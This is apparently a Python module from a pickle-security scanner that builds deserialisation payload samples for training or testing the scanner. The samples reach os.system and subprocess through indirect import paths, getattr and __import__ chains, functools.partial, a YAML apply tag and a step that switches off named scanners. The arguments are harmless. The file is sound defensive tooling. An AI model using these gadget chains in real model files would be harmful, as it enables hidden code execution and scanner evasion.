"""Payload builders for docs/threats.md section E (name-resolution indirection) and one builder per
section-F dangerous callable (`matrix.F_CALLABLES`), each called with harmless arguments.
"""

from __future__ import annotations

import pickle
import random
from typing import Any

from fastscan.train.matrix import F_CALLABLES
from fastscan.train.opwriter import Call, G, Ops
from fastscan.train.payload_kit import (
    Builder,
    Sample,
    add_globals,
    dangerous_target,
    embed,
    harmless_code,
    harmless_command,
    harmless_path,
    inner_pickle,
    make_sample,
    random_ops,
    random_protocol,
    register,
    simple_sample,
    system_call,
)

__all__ = ["E_BUILDERS", "F_BUILDERS"]

E_BUILDERS: dict[str, Builder] = {}
F_BUILDERS: dict[str, Builder] = {}


# -- F: dangerous callables, one builder each ----------------------------------------------------
def _f_builder(module: str, name: str, family: str, kind: str) -> Builder:
    """A section-F callable as its own family member, called with harmless arguments."""
    key = f"F:{module}.{name}"

    def build(rng: random.Random) -> Sample:
        tag = f"f{rng.randrange(1000)}"
        nested: list[str] = []
        args: tuple[Any, ...]
        if kind == "pickle":
            inner, nested = inner_pickle(rng, tag)
            args = (inner,)
        else:
            args = _f_args("code" if kind == "built_code" else kind, rng, tag)
        # Dotted names need protocol 4 in the loader's find_class; bytes operands protocol 3.
        lo = 4 if "." in name else (3 if any(isinstance(a, bytes) for a in args) else 0)
        payload = Call(G(module, name), args)
        if kind == "built_code":
            # code construction is the gadget; the attack is calling what was built at load time
            if name == "CodeType":  # a code object is not callable: wrap it in a function first
                payload = Call(G("types", "FunctionType"), (payload, {}))
                nested = ["types.FunctionType"]
            payload = Call(payload, ())
        return add_globals(simple_sample(key, family, rng, payload, lo=lo), nested)

    build.__name__ = f"build_F_{module}_{name}".replace(".", "_")
    return build


def _f_args(kind: str, rng: random.Random, tag: str) -> tuple[Any, ...]:
    cmd = harmless_command(rng, tag)
    sink = rng.choice([G("os", "system"), G("subprocess", "getoutput")])
    table: dict[str, tuple[Any, ...]] = {
        "cmd": (cmd,),
        "argv": (["sh", "-c", cmd],),
        "code": (harmless_code(rng, tag),),
        "self_code": (None, harmless_code(rng, tag)),
        "path": (harmless_path(rng, tag),),
        "path_w": (harmless_path(rng, tag), "w"),
        "url": (f"http://127.0.0.1:9/fastscan-{tag}",),
        "addr": (("127.0.0.1", 9),),
        "host": ("127.0.0.1",),
        "text_cmd": ("fastscan-test", cmd),
        "marshal": (b"\xe3" + bytes(rng.randrange(256) for _ in range(16)),),
        "yaml": (f"!!python/object/apply:os.system [{cmd!r}]",),
        "callback": (sink, cmd),
        "callback_self": (None, sink, cmd),
        "none": (),
    }
    return table[kind]


for _module, _name, _family, _kind in F_CALLABLES:
    F_BUILDERS[f"F:{_module}.{_name}"] = _f_builder(_module, _name, _family, _kind)


# -- E: name-resolution indirection --------------------------------------------------------------
def _named(key: str, family: str, choices: list[tuple[str, str]], lo: int = 4) -> Builder:
    def build(rng: random.Random) -> Sample:
        module, name = rng.choice(choices)
        tag = key.lower()
        args = _f_args(_ARGKIND.get(name.rsplit(".", 1)[-1], "cmd"), rng, tag)
        top = 2 if module == "__builtin__" else 5  # __builtin__ maps to builtins below protocol 3
        ops = Ops(rng.randint(lo, max(lo, top)), memo=rng.random() < 0.6)
        ops.stack_global = ops.protocol >= 4 and rng.random() < 0.5
        ops.value(embed(rng, Call(G(module, name), args)))
        return make_sample(key, family, ops, ops.finish())

    build.__name__ = f"build_{key}"
    return build


_ARGKIND = {
    "eval": "code",
    "exec": "code",
    "FileIO": "path_w",
    "attrgetter": "host",
    "loads": "code",
}

E_BUILDERS["E1"] = _named(
    "E1",
    "import_resolver",
    [(m, "os.system") for m in ("pathlib", "shutil", "zipfile", "inspect", "pdb", "logging")]
    + [("torch", "serialization.os.system"), ("numpy", "testing._private.utils.os.system")],
)
E_BUILDERS["E2"] = _named(
    "E2",
    "import_resolver",
    [
        ("random", "_os.system"),
        ("tempfile", "_os.system"),
        ("uuid", "os.system"),
        ("platform", "os.system"),
        ("site", "os.system"),
        ("ctypes", "_os.system"),
    ],
)
E_BUILDERS["E3"] = _named(
    "E3",
    "process",
    [
        ("asyncio.unix_events", "_UnixSubprocessTransport._start"),
        ("asyncio.subprocess", "create_subprocess_shell"),
        ("multiprocessing.popen_fork", "Popen"),
        ("setuptools._distutils.spawn", "spawn"),
        ("os.path", "os.system"),
    ],
)
E_BUILDERS["E4"] = _named(
    "E4",
    "process",
    [
        ("posix", "system"),
        ("nt", "system"),
        ("_io", "FileIO"),
        ("_operator", "attrgetter"),
        ("__builtin__", "eval"),
        ("__builtin__", "exec"),
        ("_posixsubprocess", "fork_exec"),
    ],
    lo=0,
)


@register(E_BUILDERS, "E5")
def build_E5(rng: random.Random) -> Sample:
    """Universal resolvers: a name string in, the dangerous callable out."""
    module, name, args = dangerous_target(rng, "e5")
    mod_obj: Any = Call(G("importlib", "import_module"), (module,))
    fn = rng.choice(
        [
            Call(G("pkgutil", "resolve_name"), (f"{module}:{name}",)),
            Call(G("pydoc", "locate"), (f"{module}.{name}",)),
            Call(G("builtins", "getattr"), (mod_obj, name)),
            Call(Call(G("operator", "attrgetter"), (name,)), (mod_obj,)),
            Call(
                G("inspect", "getattr_static"), (Call(G("builtins", "__import__"), (module,)), name)
            ),
        ]
    )
    return simple_sample("E5", "import_resolver", rng, Call(fn, args), lo=2)


@register(E_BUILDERS, "E6")
def build_E6(rng: random.Random) -> Sample:
    """`getattr(__import__('os'), 'system')(cmd)` built from nested REDUCEs."""
    cmd = harmless_command(rng, "e6")
    imp = Call(G("builtins", "__import__"), (rng.choice(["os", "posix"]),))
    if rng.random() < 0.5:  # a longer walk through an allowlisted module
        imp = Call(G("builtins", "getattr"), (Call(G("builtins", "__import__"), ("torch",)), "os"))
        imp = Call(G("builtins", "getattr"), (Call(G("builtins", "getattr"), (imp, "path")), "os"))
    fn = Call(G("builtins", "getattr"), (imp, "system"))
    return simple_sample("E6", "import_resolver", rng, Call(fn, (cmd,)), lo=1)


@register(E_BUILDERS, "E7")
def build_E7(rng: random.Random) -> Sample:
    """functools.partial wrapping the sink, called with no arguments (or with BUILD state)."""
    ops = random_ops(rng, random_protocol(rng, 2))
    if rng.random() < 0.5:
        partial = Call(G("functools", "partial"), (G("os", "system"), harmless_command(rng, "e7")))
        ops.value(Call(partial, ()))
    else:  # partial.__setstate__((func, args, kwds, dict)) like the pickler writes it
        path = harmless_path(rng, "e7")
        ops.value(Call(G("functools", "partial"), (G("torch", "load"),)))
        ops.tuple_of((G("torch", "load"), (path,), {"weights_only": False}, None)).op(pickle.BUILD)
        ops.tuple_of(()).op(pickle.REDUCE)
    return make_sample("E7", "nested_loader", ops, ops.finish())


@register(E_BUILDERS, "E8")
def build_E8(rng: random.Random) -> Sample:
    """Import scanner internals to switch them off, then run the payload."""
    module, name = rng.choice(
        [
            ("fickling.fickle", "Pickled"),
            ("picklescan.scanner", "_safe_globals"),
            ("modelscan.settings", "DEFAULT_SETTINGS"),
            ("fastscan.rules", "engine"),
        ]
    )
    off = Call(G("builtins", "setattr"), (G(module, name), "enabled", False))
    return simple_sample("E8", "tamper", rng, [off, system_call(rng, "e8")], lo=1)
